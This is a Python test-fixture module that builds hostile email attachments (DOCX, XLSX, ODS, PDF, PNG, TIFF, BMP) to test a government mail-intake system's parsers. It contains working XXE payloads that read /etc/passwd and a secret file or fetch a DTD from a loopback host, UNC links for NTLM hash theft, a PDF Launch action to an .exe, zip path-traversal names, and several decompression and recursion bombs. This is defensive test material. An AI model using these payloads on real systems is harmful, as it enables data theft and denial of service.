"""The fourth hostile set: written blind (the readers unread), by an attacker who knows the
stack is Python (lxml/ElementTree, zipfile, openpyxl, python-docx, pdfminer/pdfplumber,
Pillow, tesseract) and that a clerk opens the case in a browser. Where set 2 already
tried an attack (a docx member bomb, XXE in document.xml, a classic xref /Prev loop), this
set tries the variant a real attacker reaches for next: the XML part nobody thinks of
(relationships, core properties, headers, content.xml of an ODS, XFA in a PDF), the
encoding that hides a DOCTYPE (UTF-16), the repeat counts a format allows (ODS columns
repeated, a page tree that is a DAG), the names a zip may carry (NUL, `..`, 10,000
characters, RTL override) and the markup a review page might render.

Every mail carries an invented citizen (`CITIZEN`) in its body: the request must become
a case and those values must never reach a log.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from email.message import EmailMessage
from functools import lru_cache

from hostile_mail_2 import (
    DOCX,
    MIB,
    XLSX,
    Bait,
    Member,
    _deflate_repeated,
    _document,
    _docx,
    _member,
    _paragraphs,
    _png,
    _png_chunk,
    _sheet,
    _xlsx,
    _zip,
    pdf_from_objects,
)

from tests.review.review_seed import Person, person

CITIZEN: Person = person(404)
ODS = ("application", "vnd.oasis.opendocument.spreadsheet")
PDF = ("application", "pdf")


@dataclass(frozen=True)
class Attack:
    name: str
    hope: str  # what the attacker hopes happens
    build: Callable[[Bait, int], bytes]
    defect: str = ""  # a substring some recorded defect code must hold ("" = none asked)


def body(n: int) -> str:
    p = CITIZEN
    return (
        "เรียน เจ้าหน้าที่\n\n"
        f"ชื่อ-นามสกุล: {p.name}\n"
        f"เลขประจำตัวประชาชน: {p.national_id_dashed}\n"
        f"โทรศัพท์: {p.phone}\n"
        f"อีเมล: {p.email}\n"
        "เรื่อง: ขอข้อมูลข่าวสารของราชการ\n"
        f"รายละเอียด: HOSTILE4MARK{n} ขอสำเนาเอกสารตามแนบ\n"
    )


def mail(n: int, subject: str = "คำร้องขอข้อมูล แนบแบบฟอร์ม") -> EmailMessage:
    out = EmailMessage()
    out["From"] = f"ผู้ร้อง {n} <citizen404.{n}@example.org>"
    out["To"] = "saraban@example.go.th"
    out["Subject"] = subject
    out["Message-ID"] = f"<hostile4-{n}@example.org>"
    out.set_content(body(n))
    return out


def attach(n: int, data: bytes, maintype: str, subtype: str, filename: str) -> bytes:
    out = mail(n)
    out.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return bytes(out)


def _file(
    data: Callable[[], bytes], maintype: str, subtype: str, filename: str
) -> Callable[[Bait, int], bytes]:
    return lambda _bait, n: attach(n, data(), maintype, subtype, filename)


def _bait_file(
    data: Callable[[Bait], bytes], maintype: str, subtype: str, filename: str
) -> Callable[[Bait, int], bytes]:
    return lambda bait, n: attach(n, data(bait), maintype, subtype, filename)


def _file_doctype(bait: Bait, root: bytes) -> bytes:
    return (
        b"<!DOCTYPE " + root + b' [<!ENTITY sec SYSTEM "file://'
        b"" + str(bait.secret_path).encode() + b'">'
        b'<!ENTITY pw SYSTEM "file:///etc/passwd">'
        b'<!ENTITY net SYSTEM "http://127.0.0.1:%d/entity">]>' % bait.port
    )


# --- OOXML: the parts beside document.xml ---------------------------------------------

RELS_NS = b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
REL_TYPE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _doc_rels(rels: bytes, doctype: bytes = b"") -> Member:
    return _member(
        "word/_rels/document.xml.rels",
        b'<?xml version="1.0" encoding="UTF-8"?>' + doctype + b"<Relationships " + RELS_NS + b">"
        b"" + rels + b"</Relationships>",
    )


def _form_paragraphs() -> bytes:
    p = CITIZEN
    return _paragraphs(
        f"ชื่อ-นามสกุล: {p.name}",
        f"เลขประจำตัวประชาชน: {p.national_id}",
        "รายละเอียด: แบบฟอร์มแนบ",
    )


def docx_external_relationships(bait: Bait) -> bytes:
    """Images, a hyperlink, an attached template and a subdocument, all TargetMode
    External to a UNC path (NTLM hash theft on Windows) and to a loopback URL."""
    unc = b"\\\\127.0.0.1@%d\\share\\logo.png" % bait.port
    url = b"http://127.0.0.1:%d/track.png" % bait.port
    rels = (
        b'<Relationship Id="rId2" Type="' + REL_TYPE + b'image" Target="' + url + b'" '
        b'TargetMode="External"/>'
        b'<Relationship Id="rId3" Type="' + REL_TYPE + b'image" Target="' + unc + b'" '
        b'TargetMode="External"/>'
        b'<Relationship Id="rId4" Type="' + REL_TYPE + b'attachedTemplate" '
        b'Target="http://127.0.0.1:%d/t.dotm" TargetMode="External"/>'
        b'<Relationship Id="rId5" Type="' + REL_TYPE + b'subDocument" '
        b'Target="file:///etc/passwd" TargetMode="External"/>'
        b'<Relationship Id="rId6" Type="' + REL_TYPE + b'oleObject" '
        b'Target="file://' + str(bait.secret_path).encode() + b'" TargetMode="External"/>'
    ) % bait.port
    picture = (
        b'<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/'
        b'drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships" r:link="rId2"/></w:drawing></w:r></w:p>'
    )
    return _docx(_document(_form_paragraphs() + picture), [_doc_rels(rels)])


def docx_altchunk_and_ole(bait: Bait) -> bytes:
    """An altChunk (Word imports the HTML/MHT part as content, and an external one by
    URL) and an embedded OLE package with an .exe inside."""
    html = (
        b"<html><body><p>Name: <img src='http://127.0.0.1:%d/alt.png'>"
        b"<iframe src='file://%s'></iframe></p></body></html>"
    ) % (bait.port, str(bait.secret_path).encode())
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"MZ\x90\x00payload.exe" * 64
    rels = (
        b'<Relationship Id="rId7" Type="' + REL_TYPE + b'aFChunk" Target="afchunk.htm"/>'
        b'<Relationship Id="rId8" Type="' + REL_TYPE + b'aFChunk" '
        b'Target="http://127.0.0.1:%d/chunk.mht" TargetMode="External"/>'
        b'<Relationship Id="rId9" Type="' + REL_TYPE + b'oleObject" '
        b'Target="embeddings/oleObject1.bin"/>'
    ) % bait.port
    chunks = b'<w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
    chunks += b'relationships" r:id="rId7"/>'
    return _docx(
        _document(_form_paragraphs() + chunks),
        [
            _doc_rels(rels),
            _member("word/afchunk.htm", html),
            _member("word/embeddings/oleObject1.bin", ole),
        ],
    )


def docx_xxe_parameter_entity(bait: Bait) -> bytes:
    """Out-of-band XXE: a parameter entity loads an external DTD from loopback (blind
    exfiltration), declared in the relationships part every reader opens first."""
    doctype = (
        b'<!DOCTYPE Relationships [<!ENTITY %% remote SYSTEM "http://127.0.0.1:'
        b'%d/evil.dtd"> %%remote; <!ENTITY %% file SYSTEM "file:///etc/passwd">]>' % bait.port
    )
    return _docx(_document(_form_paragraphs()), [_doc_rels(b"", doctype)])


def docx_xxe_utf16(bait: Bait) -> bytes:
    """document.xml in UTF-16 with a BOM: a byte scan for b'<!DOCTYPE' or b'<!ENTITY'
    sees nothing, an XML parser sees the entities."""
    text = _document(
        _paragraphs("ชื่อ-นามสกุล: &sec;", "ที่อยู่: &pw;", "รายละเอียด: &net;"),
        _file_doctype(bait, b"w:document"),
    ).decode("utf-8")
    text = text.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return _docx(text.encode("utf-16"))


def docx_xxe_core_and_header(bait: Bait) -> bytes:
    """The entities sit in docProps/core.xml (title, author) and word/header1.xml:
    the parts a reader takes metadata or a letterhead from."""
    doctype = _file_doctype(bait, b"cp:coreProperties")
    core = (
        b'<?xml version="1.0" encoding="UTF-8"?>' + doctype + b"<cp:coreProperties "
        b'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        b'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&sec;</dc:title>'
        b"<dc:creator>&pw;</dc:creator><dc:subject>&net;</dc:subject></cp:coreProperties>"
    )
    header = (
        b'<?xml version="1.0" encoding="UTF-8"?>' + _file_doctype(bait, b"w:hdr") + b"<w:hdr "
        b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:p><w:r><w:t>Name: &sec;</w:t></w:r></w:p></w:hdr>"
    )
    rels = b'<Relationship Id="rId2" Type="' + REL_TYPE + b'header" Target="header1.xml"/>'
    return _docx(
        _document(_form_paragraphs()),
        [
            _doc_rels(rels),
            _member("word/header1.xml", header),
            _member("docProps/core.xml", core),
        ],
    )


def xlsx_xxe_in_rels(bait: Bait) -> bytes:
    """XXE in xl/_rels/workbook.xml.rels and [Content_Types].xml, which a reader must
    parse before any cell, and an external link part pointing at the secret."""
    doctype = _file_doctype(bait, b"Relationships")
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?>' + doctype + b"<Relationships " + RELS_NS + b">"
        b'<Relationship Id="rId1" Type="' + REL_TYPE + b'worksheet" '
        b'Target="worksheets/sheet1.xml"/>'
        b'<Relationship Id="rIdS" Type="' + REL_TYPE + b'sharedStrings" '
        b'Target="sharedStrings.xml"/>'
        b'<Relationship Id="rIdX" Type="' + REL_TYPE + b'externalLink" '
        b'Target="file://' + str(bait.secret_path).encode() + b'" TargetMode="External"/>'
        b"</Relationships>"
    )
    rows = (
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + "ชื่อ-นามสกุล".encode() + b"</t></is></c>"
        b'<c r="B1" t="inlineStr"><is><t>' + CITIZEN.name.encode() + b"</t></is></c></row>"
    )
    book = _xlsx(_sheet(rows))
    with zipfile.ZipFile(io.BytesIO(book)) as src:
        members = [
            _member(i.filename, src.read(i.filename))
            for i in src.infolist()
            if i.filename != "xl/_rels/workbook.xml.rels"
        ]
    return _zip([*members, _member("xl/_rels/workbook.xml.rels", rels)])


def xlsx_quadratic_blowup() -> bytes:
    """No nested entities (a billion-laughs guard that counts depth passes it): one
    50,000-character entity referenced 40,000 times is 2 GB of text."""
    entity = b"A" * 50_000
    refs = b"&a;" * 40_000
    doctype = b'<!DOCTYPE sst [<!ENTITY a "' + entity + b'">]>'
    shared = (
        b'<?xml version="1.0" encoding="UTF-8"?>' + doctype + b'<sst xmlns="http://schemas.'
        b'openxmlformats.org/spreadsheetml/2006/main" count="1"><si><t>' + refs + b"</t></si></sst>"
    )
    rows = b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    return _xlsx(_sheet(rows), shared)


# --- OpenDocument --------------------------------------------------------------------

ODS_MANIFEST = (
    b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:'
    b'names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry '
    b'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.'
    b'spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-'
    b'type="text/xml"/></manifest:manifest>'
)
ODS_NS = (
    b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    b'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"'
)


def _ods_content(rows: bytes, doctype: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>' + doctype + b"<office:document-content "
        b"" + ODS_NS + b"><office:body><office:spreadsheet>"
        b'<table:table table:name="S1">' + rows + b"</table:table>"
        b"</office:spreadsheet></office:body></office:document-content>"
    )


def _ods_row(*values: str | bytes) -> bytes:
    cells = b"".join(
        b'<table:table-cell office:value-type="string"><text:p>'
        + (v if isinstance(v, bytes) else v.encode())
        + b"</text:p></table:table-cell>"
        for v in values
    )
    return b"<table:table-row>" + cells + b"</table:table-row>"


def _ods(content: bytes | Member) -> bytes:
    part = content if isinstance(content, Member) else _member("content.xml", content)
    return _zip(
        [
            _member("mimetype", ODS[0].encode() + b"/" + ODS[1].encode(), zipfile.ZIP_STORED),
            _member("META-INF/manifest.xml", ODS_MANIFEST),
            part,
        ]
    )


def ods_xxe(bait: Bait) -> bytes:
    rows = _ods_row("ชื่อ-นามสกุล", b"&sec;") + _ods_row("ที่อยู่", b"&pw;")
    rows += _ods_row("รายละเอียด", b"&net;")
    return _ods(_ods_content(rows, _file_doctype(bait, b"office:document-content")))


def ods_billion_laughs() -> bytes:
    decl = b'<!ENTITY l0 "lol">' + b"".join(
        b'<!ENTITY l%d "%s">' % (i, b"&l%d;" % (i - 1) * 10) for i in range(1, 10)
    )
    doctype = b"<!DOCTYPE office:document-content [" + decl + b"]>"
    return _ods(_ods_content(_ods_row("ชื่อ-นามสกุล", b"&l9;"), doctype))


@lru_cache(maxsize=1)
def ods_content_bomb() -> bytes:
    """content.xml inflates to 2 GiB of spaces between two rows."""
    full = _ods_content(_ods_row("ชื่อ-นามสกุล", CITIZEN.name) + b"@@" + _ods_row("x", "y"))
    head, tail = full.split(b"@@")
    data, crc = _deflate_repeated(head, b" " * (16 * MIB), 128, tail)
    return _ods(Member("content.xml", data, crc, (len(head) + 128 * 16 * MIB + len(tail))))


def ods_repeated_cells() -> bytes:
    """ODS compresses a run of equal cells into one with a repeat count: 16,384 columns
    by 1,048,576 rows of a non-empty cell is 17 billion cells in 1 KB."""
    huge = (
        b'<table:table-row table:number-rows-repeated="1048576">'
        b'<table:table-cell table:number-columns-repeated="16384" office:value-type="string">'
        b"<text:p>x</text:p></table:table-cell></table:table-row>"
    )
    rows = _ods_row("ชื่อ-นามสกุล", CITIZEN.name) + huge
    return _ods(_ods_content(rows))


# --- zip structure ---------------------------------------------------------------------


@lru_cache(maxsize=1)
def xlsx_hundred_thousand_entries() -> bytes:
    """100,000 entries (past the 65,535 a plain end record can count: zip64)."""
    out = io.BytesIO()
    base = zipfile.ZipFile(io.BytesIO(_xlsx(_sheet(b""))))
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED, allowZip64=True) as book:
        for info in base.infolist():
            book.writestr(info.filename, base.read(info.filename))
        for i in range(100_000):
            book.writestr(f"xl/media/e{i}", b"")
    return out.getvalue()


@lru_cache(maxsize=1)
def docx_overlapping_entries() -> bytes:
    """Fifield's non-recursive zip bomb: 2,000 central entries whose local data overlap,
    each inflating the same 1 MiB kernel plus all the entries after it."""
    kernel, crc = _deflate_repeated(b"", b"A" * MIB, 1, b"")
    doc = _document(_form_paragraphs())
    members = [
        _member("[Content_Types].xml", _zip_member_bytes("[Content_Types].xml")),
        _member("_rels/.rels", _zip_member_bytes("_rels/.rels")),
        _member("word/document.xml", doc),
    ]
    head = _zip(members)
    body_end = head.index(b"PK\x01\x02")
    local = bytearray(head[:body_end])
    central = bytearray(head[body_end : head.index(b"PK\x05\x06")])
    count = 2000
    # every entry: a local header naming it, then (as a stored block) the next header,
    # all sharing the one kernel at the end
    start = len(local)
    for i in range(count):
        name = b"word/media/o%04d.xml" % i
        offset = len(local)
        local += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0x800, 8, 0, 0x21, crc, 0, MIB, len(name), 0
        )
        local += name
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            0x031E,
            20,
            0x800,
            8,
            0,
            0x21,
            crc,
            len(kernel),
            MIB,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += name
    del start
    # all local headers lead into the same deflate data: each one a prefix of the rest
    local += kernel
    cd_start = len(local)
    total = 3 + count
    return bytes(local + central) + struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, total, total, len(central), cd_start, 0
    )


def _zip_member_bytes(name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(_docx(_document(b"")))) as z:
        return z.read(name)


def docx_duplicate_and_traversal_names(bait: Bait) -> bytes:
    """Two word/document.xml (Word reads one, Python's zipfile the last), part names
    with `..`, an absolute path, a NUL, and a relationship whose Target climbs out."""
    decoy = _document(_paragraphs("ชื่อ-นามสกุล: เอกสารปลอม"))
    real = _document(_form_paragraphs())
    rels = (
        b'<Relationship Id="rId2" Type="' + REL_TYPE + b'image" '
        b'Target="../../../../../../../../etc/passwd"/>'
        b'<Relationship Id="rId3" Type="' + REL_TYPE + b'image" '
        b'Target="/' + str(bait.secret_path).encode() + b'"/>'
    )
    return _docx(
        decoy,
        [
            _member("word/document.xml", real),
            _doc_rels(rels),
            _member(f"../../../../../../tmp/PWNED-{bait.token}-docx.xml", b"<x/>"),
            _member(f"/tmp/PWNED-{bait.token}-abs.xml", b"<x/>"),
            _member(f"word/media/nul\x00PWNED-{bait.token}.png", b"x"),
        ],
    )


def docx_size_lies_stored() -> bytes:
    """A stored (not deflated) document.xml whose central entry claims 4 GiB, and an
    entry whose local header names another file than its central entry."""
    doc = _document(_form_paragraphs())
    lie = Member("word/document.xml", doc, zlib.crc32(doc), 0xFFFFFFFE, zipfile.ZIP_STORED)
    other = Member("word/styles.xml", b"<x/>", zlib.crc32(b"<x/>"), 0xFFFFFFFE, 0)
    raw = bytearray(_docx(lie, [other]))
    return bytes(raw)


# --- PDF -------------------------------------------------------------------------------

FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _text_stream() -> bytes:
    content = b"BT /F1 12 Tf 72 720 Td (Name: Requester 404) Tj ET"
    return b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"


def _flate_stream(content: bytes, extra: bytes = b"") -> bytes:
    data = zlib.compress(content, 9)
    return (
        b"<< /Length %d /Filter /FlateDecode %s>>\nstream\n" % (len(data), extra)
        + data
        + b"\nendstream"
    )


def _page(extra: bytes = b"", parent: int = 2) -> bytes:
    return (
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> %s>>" % (parent, extra)
    )


def pdf_page_dag() -> bytes:
    """One million pages from seven objects: each /Pages node lists the next one ten
    times (a DAG, not a loop: a visited-set loop guard does not stop it), /Count true."""
    levels = 6
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    # 1 catalog, 2 root pages, 3 page, 4 content, 5 font, 6.. inner nodes
    inner = list(range(6, 6 + levels - 1))
    chain = [2, *inner]
    nodes: dict[int, bytes] = {}
    for depth, number in enumerate(chain):
        child = chain[depth + 1] if depth + 1 < len(chain) else 3
        count = 10 ** (levels - depth)
        kids = b" ".join(b"%d 0 R" % child for _ in range(10))
        nodes[number] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    objects += [nodes[2], _page(parent=chain[-1]), _text_stream(), FONT]
    objects += [nodes[n] for n in inner]
    return pdf_from_objects(objects)


def pdf_huge_count() -> bytes:
    """One page, and a /Count of 2^31-1 a reader may size a list by."""
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>",
            _page(),
            _text_stream(),
            FONT,
        ]
    )


def pdf_objstm_loop() -> bytes:
    """An object stream that /Extends itself and holds the page tree, and an xref stream
    whose /Prev points at itself."""
    inner = b"2 0 3 60 " + b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".ljust(60) + _page()
    first = len(b"2 0 3 60 ")
    objstm = _flate_stream(inner, b"/Type /ObjStm /N 2 /First %d /Extends 6 0 R " % first)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    plain = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 4: _text_stream(), 5: FONT, 6: objstm}
    for number, obj in plain.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref_at = len(out)
    rows = [b"\x00" + struct.pack(">I", 0) + b"\xff\xff"]
    for number in range(1, 8):
        if number in (2, 3):
            rows.append(b"\x02" + struct.pack(">I", 6) + struct.pack(">H", number - 2))
        elif number == 7:
            rows.append(b"\x01" + struct.pack(">I", xref_at) + b"\x00\x00")
        else:
            rows.append(b"\x01" + struct.pack(">I", offsets[number]) + b"\x00\x00")
    data = zlib.compress(b"".join(rows))
    out += (
        b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Prev %d /Length %d "
        b"/Filter /FlateDecode >>\nstream\n" % (xref_at, len(data))
    )
    out += data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def pdf_deep_page_tree(depth: int = 30_000) -> bytes:
    """A page tree 30,000 /Pages nodes deep (no loop): recursion in whatever walks it."""
    objects = [b"<< /Type /Catalog /Pages 6 0 R >>", b"", _page(parent=6 + depth - 1)]
    objects += [_text_stream(), FONT]
    objects[1] = b"<< /Type /Pages /Kids [] /Count 0 >>"
    for i in range(depth):
        number = 6 + i
        child = number + 1 if i + 1 < depth else 3
        parent = b"/Parent %d 0 R " % (number - 1) if i else b""
        objects.append(b"<< /Type /Pages %s/Kids [%d 0 R] /Count 1 >>" % (parent, child))
    return pdf_from_objects(objects)


def pdf_links_and_embedded(bait: Bait) -> bytes:
    """Link annotations to a loopback URI and a UNC path, a GoToR to a remote PDF, an
    ImportData of the secret file, and an embedded .docx that is itself a bomb."""
    secret = str(bait.secret_path).encode()
    port = str(bait.port).encode()
    annots = (
        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI "
        b"/URI (http://127.0.0.1:" + port + b"/pdf-uri) >> >> "
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch "
        b"/F (\\\\\\\\127.0.0.1@" + port + b"\\\\share\\\\x.exe) >> >> "
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 5 5] /A << /S /GoToR "
        b"/F (http://127.0.0.1:" + port + b"/remote.pdf) /D [0 /Fit] >> >>] "
    )
    bomb, _ = _deflate_repeated(b"PK", b"\x00" * MIB, 256, b"")
    embedded = b"<< /Type /EmbeddedFile /Length %d /Filter /FlateDecode >>\nstream\n" % (
        len(bomb) + 6
    )
    embedded += b"\x78\x9c" + bomb + b"\x00\x00\x00\x00\nendstream"
    catalog = (
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names "
        b"[(form.docx) << /Type /Filespec /F (form.docx) /EF << /F 6 0 R >> >>] >> >> "
        b"/OpenAction << /S /ImportData /F (" + secret + b") >> >>"
    )
    return pdf_from_objects(
        [
            catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(annots),
            _text_stream(),
            FONT,
            embedded,
        ]
    )


def pdf_xfa_xxe(bait: Bait) -> bytes:
    """An XFA form (the XML Adobe forms keep beside AcroForm) with file and http
    entities in its datasets packet, where a form reader takes field values from."""
    doctype = _file_doctype(bait, b"xdp:xdp")
    xfa = (
        b'<?xml version="1.0" encoding="UTF-8"?>' + doctype + b'<xdp:xdp xmlns:xdp="http://'
        b'ns.adobe.com/xdp/"><xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/">'
        b"<xfa:data><form1><name>&sec;</name><address>&pw;</address><detail>&net;</detail>"
        b"<national_id>" + CITIZEN.national_id.encode() + b"</national_id>"
        b"</form1></xfa:data></xfa:datasets></xdp:xdp>"
    )
    catalog = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 6 0 R >> >>"
    return pdf_from_objects(
        [
            catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(),
            _text_stream(),
            FONT,
            b"<< /Length %d >>\nstream\n" % len(xfa) + xfa + b"\nendstream",
        ]
    )


def pdf_self_drawing_xobject() -> bytes:
    """A form XObject whose content draws itself (`/X Do` inside X): infinite recursion
    for an interpreter that does not guard, and a ToUnicode CMap with a 2^32 bfrange."""
    cmap = (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap "
        b"1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange "
        b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange endcmap end end"
    )
    xobject = (
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] "
        b"/Resources << /XObject << /X 6 0 R >> /Font << /F1 5 0 R >> >> /Length 30 >>\n"
        b"stream\n/X Do BT /F1 9 Tf (x) Tj ET   \nendstream"
    )
    content = b"/X Do BT /F1 12 Tf 72 720 Td (Name: Requester 404) Tj ET"
    font = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /Evil /Encoding /Identity-H "
        b"/DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Evil "
        b"/CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> "
        b"/FontDescriptor << /Type /FontDescriptor /FontName /Evil /Flags 4 >> >>] "
        b"/ToUnicode 7 0 R >>"
    )
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> >>",
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
            font,
            xobject,
            b"<< /Length %d >>\nstream\n" % len(cmap) + cmap + b"\nendstream",
        ]
    )


def pdf_huge_dct_image() -> bytes:
    """A scan-like page (no text) whose one image is a JPEG declaring 60000 x 60000:
    the page must be rendered for OCR, and a renderer sizes its buffer by the header."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("L", (16, 16), 255).save(out, format="JPEG")
    jpeg = bytearray(out.getvalue())
    sof = jpeg.index(b"\xff\xc0")
    struct.pack_into(">HH", jpeg, sof + 5, 60000, 60000)
    image = (
        b"<< /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace "
        b"/DeviceGray /BitsPerComponent 8 /Filter /DCTDecode /Length %d >>\nstream\n"
        % len(jpeg)
        + bytes(jpeg)
        + b"\nendstream"
    )
    content = b"q 595 0 0 842 0 0 cm /Im0 Do Q"
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /XObject << /Im0 5 0 R >> >> >>",
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
            image,
        ]
    )


def pdf_field_flood(fields: int = 150_000) -> bytes:
    """An AcroForm with 150,000 text fields (each named like a form's name field) and a
    /Kids loop among the last two."""
    objects = [
        b"",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        _page(),
        _text_stream(),
        FONT,
    ]
    first = len(objects) + 1
    for i in range(fields):
        objects.append(b"<< /FT /Tx /T (name%d) /V (x%d) >>" % (i, i))
    a, b = len(objects) + 1, len(objects) + 2
    objects.append(b"<< /T (loop) /Kids [%d 0 R] >>" % b)
    objects.append(b"<< /T (pool) /Kids [%d 0 R] /Parent %d 0 R >>" % (a, a))
    refs = b" ".join(b"%d 0 R" % n for n in range(first, first + fields))
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [%s %d 0 R] >> >>" % (
        refs,
        a,
    )
    return pdf_from_objects(objects)


# --- images ----------------------------------------------------------------------------


@lru_cache(maxsize=1)
def png_iccp_bomb() -> bytes:
    """A valid 64 x 64 PNG whose iCCP profile inflates to 512 MiB (Pillow reads iCCP
    eagerly into img.info), and a 1 MB tEXt chunk."""
    data, _ = _deflate_repeated(b"", b"\x00" * (16 * MIB), 32, b"")
    iccp = b"evil\x00\x00" + b"\x78\xda" + data + b"\x00\x00\x00\x00"
    pixels = zlib.compress((b"\x00" + b"\xff" * 64) * 64)
    return _png(
        64,
        64,
        pixels,
        _png_chunk(b"iCCP", iccp) + _png_chunk(b"tEXt", b"Comment\x00" + b"B" * MIB),
    )


@lru_cache(maxsize=1)
def png_many_idat_chunks(chunks: int = 300_000) -> bytes:
    """A 2000 x 2000 image split in 300,000 IDAT chunks of a few bytes each."""
    raw = zlib.compress((b"\x00" + b"\xff" * 2000) * 2000, 9)
    step = max(1, len(raw) // chunks)
    parts = [raw[i : i + step] for i in range(0, len(raw), step)]
    parts += [b""] * max(0, chunks - len(parts))
    ihdr = struct.pack(">IIBBBBB", 2000, 2000, 8, 0, 0, 0, 0)
    out = b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr)
    out += b"".join(_png_chunk(b"IDAT", p) for p in parts)
    return out + _png_chunk(b"IEND", b"")


def tiff_ifd_loop() -> bytes:
    """A TIFF whose first IFD's next-IFD offset points back at itself: endless frames,
    each declaring 60000 x 60000."""
    entries = [
        (256, 4, 1, 60000),  # width
        (257, 4, 1, 60000),  # height
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 8),  # strip offset
        (277, 3, 1, 1),
        (278, 4, 1, 60000),
        (279, 4, 1, 16),
    ]
    ifd_at = 8 + 16
    ifd = struct.pack("<H", len(entries))
    for tag, kind, count, value in entries:
        ifd += struct.pack("<HHII", tag, kind, count, value)
    ifd += struct.pack("<I", ifd_at)  # next IFD: this one again
    return b"II*\x00" + struct.pack("<I", ifd_at) + b"\xff" * 16 + ifd


def bmp_rle_huge() -> bytes:
    """A BMP declaring 60000 x 60000 with 8-bit RLE: a few bytes of data, 3.6 Gpx."""
    pixels = b"\x00\x01"  # end of bitmap at once
    palette = b"\x00\x00\x00\x00\xff\xff\xff\x00"
    header = struct.pack("<IiiHHIIiiII", 40, 60000, 60000, 1, 8, 1, len(pixels), 2835, 2835, 2, 0)
    offset = 14 + len(header) + len(palette)
    file_header = b"BM" + struct.pack("<IHHI", offset + len(pixels), 0, 0, offset)
    return file_header + header + palette + pixels


def gif_huge_screen() -> bytes:
    """A one-frame GIF whose screen and frame are 65535 x 65535, LZW data of 3 bytes."""
